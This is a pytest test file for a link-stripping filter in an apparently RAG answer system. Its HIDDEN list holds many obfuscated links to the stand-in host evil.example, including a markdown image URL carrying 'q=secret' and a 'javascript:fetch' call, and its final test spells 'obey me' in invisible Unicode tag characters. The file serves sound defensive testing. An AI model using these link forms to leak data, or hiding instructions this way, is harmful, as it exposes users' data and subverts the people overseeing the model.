"""No way of writing a link gets through, and ordinary prose is left as it is."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from surefoot_rag.answers.links import Links, plain

HIDDEN = [
    "See [here](http://evil.example/x?a=1) now. [1]",
    "[docs.ok.org](https://evil.example)",
    "![p](https://evil.example/p.png?q=secret)",
    "[a][b]\n[b]: http://evil.example",
    "<a href='https://evil.example'>x</a> <img src=//evil.example/a>",
    "hxxps://evil[.]example/path",
    "evil (dot) example, evil[dot]example, evil nokta example",
    "evil . example",
    "e v i l . e x a m p l e / p",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ",
    "ⓗⓣⓣⓟ://ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ 𝐞𝐯𝐢𝐥.𝐞𝐱𝐚𝐦𝐩𝐥𝐞",
    "ht\u200btp://ev\u200bil.exam\u2060ple \u202ehttp://evil.example",
    "&#104;ttps&colon;//evil&period;example &amp;#104;ttps&amp;colon;//evil&amp;amp;#46;example",
    "www.evil.example EVIL.EXAMPLE evil。example //evil.example/x \\\\evil.example\\share",
    "javascript:fetch('//evil.example')",
    "mailto:me@evil.example or me@evil.example or me [at] evil.example",
    "https://docs.ok.org@evil.example/ and https://evil.example@docs.ok.org/",
    "http://evil.example.",
    "ftp://evil.example/a, ws://evil.example, http://evil.example:8080/x",
]
PROSE = [
    "The breaker opens at 19:45. See rooms.py and README.md, e.g. 22.00. Then (1) asyncio.run works; a/b.",
    "Günlük bedel 1.450 lira. İade 3.000 lira; 22.00'de biter. Ör. 4,5 kat.",
    "Set `idle_s = 20` in surefoot.toml; List<int> and <name> stay, and so does a < b > c.",
    "It lasts 45 seconds.In addition one call may pass.Then it closes.",
    "// a comment stays, user@host stays, 10.0.0.1 stays, C:\\temp stays.",
    "می\u200cخواهم 👩\u200d💻 stays whole [1][2].",
]


def squashed(text: str) -> str:
    return re.sub(r"[\W_]", "", unicodedata.normalize("NFKC", text)).lower()


@pytest.mark.parametrize("text", HIDDEN)
def test_no_link_gets_through(text):
    """The host is gone in whatever form it stood there, and it is counted."""
    links = Links(["ok.org"])
    assert "evilexample" not in squashed(links.clean(text))
    assert links.removed


@pytest.mark.parametrize("text", PROSE)
def test_prose_stays_as_it_is(text):
    """A filter that eats file names and numbers would not be left on."""
    links = Links()
    assert (links.clean(text), links.removed) == (text, 0)


@pytest.mark.parametrize("text", [*HIDDEN, *PROSE])
@pytest.mark.parametrize("size", [1, 3, 7])
def test_pieces_come_out_like_the_whole(text, size):
    """A link cut in two by a stream is still a link."""
    links = Links()
    pieces = [links.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join(pieces) + links.end() == Links().clean(text)


@given(
    st.text(max_size=300)
    | st.lists(st.sampled_from([*HIDDEN, *PROSE, " ", "\n", "(", "<", "[", "evil", ".example"]), max_size=8).map("".join),
)
def test_whatever_is_written_no_host_leaves(text):
    """Also when pieces of links are joined by what was taken out between them."""
    links, whole = Links(), Links()
    assert "".join(map(links.feed, text)) + links.end() == whole.clean(text)
    assert not re.findall(r"https?://\w+|(?<![\w@+.-])evil\.example(?![\w-]|\.\w)", whole_text := Links().clean(text)), whole_text


def test_a_line_without_an_end_is_given_out_in_time():
    """A model that writes no full stop must not be held back for ever, nor cost more than it should."""
    links = Links()
    text = "word " * 20_000
    out = links.feed(text)
    assert len(text) - len(out) <= 2000
    assert out + links.end() == text


def test_allowed_hosts_keep_their_links():
    """Their subdomains too; a host that only ends alike is another."""
    links = Links(["ok.org"])
    kept = "Read https://ok.org/a?b=1, [more](https://docs.ok.org/x) or docs.ok.org."
    assert links.clean(kept) == kept
    assert "notok" not in Links(["ok.org"]).clean("https://notok.org and notok.org")
    assert links.removed == 0


def test_removals_are_noted_in_the_readers_language():
    """A hole without a note looks like a mistake."""
    assert Links(language="tr").clean("Bkz. http://evil.example") == "Bkz. [bağlantı çıkarıldı]"
    assert Links(language="und").clean("http://evil.example") == "[link removed]"


def test_plain_takes_what_nobody_sees():
    """Tag characters spell whole orders that only a model reads."""
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "obey me")
    assert plain(f"a{hidden}b\u202ec\u00adｄ①") == "abcd1"
